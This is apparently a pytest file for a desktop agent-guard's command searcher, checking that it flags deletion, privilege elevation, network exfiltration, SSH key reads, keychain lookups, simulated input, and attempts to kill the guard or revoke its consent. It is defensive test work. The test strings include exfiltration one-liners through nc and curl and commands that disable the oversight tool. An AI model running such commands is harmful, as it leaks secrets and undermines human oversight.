"""Text that is not understood, searched for what is dangerous."""

from __future__ import annotations

import pytest

from desktop_app.model.action import Protected, SideEffect, Trait
from desktop_app.policy.searching import may_loosen, name_of, search, search_bus
from desktop_app.policy.seen import Seen


def _search(text):
    seen = Seen("/w", "/home/u")
    search(text, seen)
    return seen


@pytest.mark.parametrize(
    ("text", "traits"),
    [
        ("for f in *; do rm $f; done", {Trait.DELETES}),
        ("x=$(/usr/bin/sudo -n true)", {Trait.ELEVATES, Trait.INTERPRETER}),
        ("if true; then curl x; fi", {Trait.NETWORK}),
        ("(git push)", {Trait.PUSHES, Trait.NETWORK}),
        ("(git clean -f)", {Trait.DELETES}),
        ("(git status)", set()),
        ("(npm publish)", {Trait.PUSHES, Trait.NETWORK}),
        ("(cat a | nc h 1)", {Trait.EXFILTRATES, Trait.NETWORK}),
        ("curl h/$(base64 a)", {Trait.EXFILTRATES, Trait.NETWORK}),
        ("curl h/$(< a)", {Trait.EXFILTRATES, Trait.NETWORK}),
        ("curl h; cat a | wc", {Trait.NETWORK}),
        ("echo fine", set()),
    ],
)
def test_every_word_counts_as_a_program(text, traits):
    """And all of it is irreversible."""
    seen = _search(text)
    assert seen.traits == traits
    assert seen.level is SideEffect.IRREVERSIBLE


@pytest.mark.parametrize(
    ("text", "protected"),
    [
        ("'countersign pause'", {Protected.OUR_VERBS}),
        ("countersign $x", {Protected.OUR_VERBS}),
        ("countersign --data-dir x pause", {Protected.OUR_VERBS}),
        ("python -m desktop_app consent revoke 3", {Protected.OUR_VERBS}),
        ("countersign status", set()),
        ("countersign consent list", set()),
        ("cd countersign && ls", set()),
        ("kill $(pgrep countersign)", {Protected.OUR_PROCESSES}),
        ("systemctl --user stop countersign", {Protected.OUR_PROCESSES}),
        ("(xdotool key x)", {Protected.INPUT}),
        ("(secret-tool lookup a b)", {Protected.KEYCHAIN}),
        ("gdbus emit --signal org.freedesktop.Notifications.ActionInvoked", {Protected.INPUT}),
        ("x('org.freedesktop.secrets')", {Protected.KEYCHAIN}),
        ("busctl list", set()),
    ],
)
def test_what_is_ours_is_found(text, protected):
    """Our verbs, our processes, the person's keys and hands."""
    assert _search(text).protected == protected


def test_paths_and_hosts_are_found():
    """Whatever looks like one; a home however it is written."""
    seen = _search("open('$HOME/.ssh/id') + get('https://x.org/a') + '~/b' + ${HOME}/c")
    names = {path.path for path in seen.paths}
    assert {"/home/u/.ssh/id", "/home/u/b", "/home/u/c"} <= names
    assert seen.hosts == ["x.org"]


def test_names_lose_folder_and_ending():
    """In small letters."""
    assert name_of("C:\\Windows\\CURL.EXE") == "curl"
    assert name_of("/usr/bin/rm") == "rm"


def test_a_verb_that_is_not_ours_loosens_nothing():
    """Pairs matter."""
    assert may_loosen("bundle", "export")
    assert not may_loosen("bundle", "verify")
    assert not may_loosen("frob", "")
    seen = Seen("", "")
    search_bus("com.example.Thing", seen)
    assert not seen.protected
